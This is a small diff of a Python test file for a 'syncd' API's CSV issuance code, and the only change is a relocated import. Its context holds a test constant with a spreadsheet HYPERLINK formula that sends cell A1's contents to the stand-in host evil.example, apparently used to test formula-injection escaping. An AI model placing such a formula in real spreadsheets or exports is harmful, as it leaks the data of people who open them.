@@ -11,8 +11,8 @@ from aiohttp.test_utils import TestClient
 
 from shared.ticket import verify_ticket
 from syncd.api.issuance import FORMULA_STARTS, csv_cell
+from tests.syncd.api.test_tickets import keyring
 from tests.syncd.conftest import Org, create_event, push
-from tests.syncd.test_tickets import keyring
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 ROWS = [
